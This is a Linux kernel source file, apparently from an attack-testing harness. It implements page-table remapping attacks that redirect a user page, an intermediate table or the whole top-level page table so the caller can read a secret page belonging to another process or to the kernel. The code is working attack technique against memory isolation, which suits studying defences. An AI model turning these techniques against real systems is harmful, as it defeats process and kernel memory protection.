// SPDX-License-Identifier: GPL-2.0-only
/*
 * Writes to page tables:
 *
 *   remap page WHERE          the entry for a page of the caller's leads to a page of
 *                             another process's
 *   remap table WHERE         the one above leads to a page table of the attacker's making,
 *                             which leads there
 *   remap-top WHERE           the process's top-level page table is one of the attacker's
 *                             making; the system call sleeps until it is loaded
 *
 * WHERE is as in secrets.c.  The result is what the caller has at the page's address then.
 */
#include <linux/err.h>
#include <linux/gfp.h>
#include <linux/mm.h>
#include <linux/sched.h>
#include <linux/string.h>
#include <linux/uaccess.h>

#include "attack.h"

struct remap {
	unsigned long user;
	u64 cr3;
	int shift;
	u64 entry;
};

static int find_remap(void *data)
{
	struct remap *r = data;

	r->entry = find_entry(r->cr3, r->user, r->shift);
	return 0;
}

static int attack_remap(int argc, char **argv, u64 *result)
{
	struct remap r = { .shift = PAGE_SHIFT };
	u64 *table, *entry, old, new;
	struct secret s;
	int err;

	if (argc != 3)
		return -EINVAL;
	if (!strcmp(argv[1], "table"))
		r.shift = PMD_SHIFT;
	else if (strcmp(argv[1], "page"))
		return -EINVAL;

	r.user = own_page();
	if (IS_ERR_VALUE(r.user))
		return r.user;
	table = (u64 *)__get_free_page(GFP_KERNEL | __GFP_ZERO);
	if (!table)
		return -ENOMEM;
	/* No page of zeros that all share, nor a huge one. */
	if (put_user(42ULL, (u64 __user *)r.user))
		return -EFAULT;
	r.cr3 = read_cr3_pa();
	err = locate_secret(&s, argv[2]);
	if (!err)
		err = prepare(find_remap, &r);
	if (err)
		return err;

	entry = (u64 *)r.entry;
	old = READ_ONCE(*entry);
	new = (__pa(s.addr) & PAGE_MASK) | _PAGE_PRESENT | _PAGE_USER | _PAGE_RW | _PAGE_ACCESSED;
	table[(r.user >> PAGE_SHIFT) % PTRS_PER_PTE] = new;
	if (r.shift == PMD_SHIFT)
		new = __pa(table) | _PAGE_TABLE;
	WRITE_ONCE(*entry, new);
	asm volatile("invlpg %0" :: "m" (*(char *)r.user) : "memory");
	err = get_user(*result, (u64 __user *)(r.user + offset_in_page(s.addr)));

	/* Or the process's end would trip over it. */
	WRITE_ONCE(*entry, old);
	asm volatile("invlpg %0" :: "m" (*(char *)r.user) : "memory");
	free_page((unsigned long)table);
	return err;
}

/* An address at which nobody maps anything. */
#define UNUSED_USER		(PGDIR_SIZE * 2)

/* The first of the tables that lead from UNUSED_USER to a page. */
static u64 *make_tables(u64 page)
{
	u64 entry = (page & PAGE_MASK) | _PAGE_TABLE, *table = NULL;
	int level;

	for (level = 0; level < 3; level++) {
		table = (u64 *)__get_free_page(GFP_KERNEL | __GFP_ZERO);
		if (!table)
			return NULL;
		table[0] = entry;
		entry = __pa(table) | _PAGE_TABLE;
	}
	return table;
}

static int attack_remap_top(int argc, char **argv, u64 *result)
{
	unsigned int order = boot_cpu_has(X86_FEATURE_PTI), i;
	pgd_t *old = current->mm->pgd, *new;
	struct secret s;
	u64 *tables;
	int err;

	if (argc != 2)
		return -EINVAL;
	err = locate_secret(&s, argv[1]);
	if (err)
		return err;
	tables = make_tables(__pa(s.addr));
	/* PTI looks for the user's half behind the kernel's. */
	new = (pgd_t *)__get_free_pages(GFP_KERNEL, order);
	if (!tables || !new)
		return -ENOMEM;
	for (i = 0; i < PTRS_PER_PGD << order; i++)
		new[i] = READ_ONCE(old[i]);
	new[pgd_index(UNUSED_USER)] = __pgd(__pa(tables) | _PAGE_TABLE);

	WRITE_ONCE(current->mm->pgd, new);
	schedule_timeout_uninterruptible(HZ / 5);
	err = get_user(*result, (u64 __user *)(UNUSED_USER + offset_in_page(s.addr)));
	WRITE_ONCE(current->mm->pgd, old);
	schedule_timeout_uninterruptible(HZ / 5);
	return err;
}

const struct attack table_attacks[] = {
	{ "remap",		attack_remap },
	{ "remap-top",		attack_remap_top },
	{ }
};
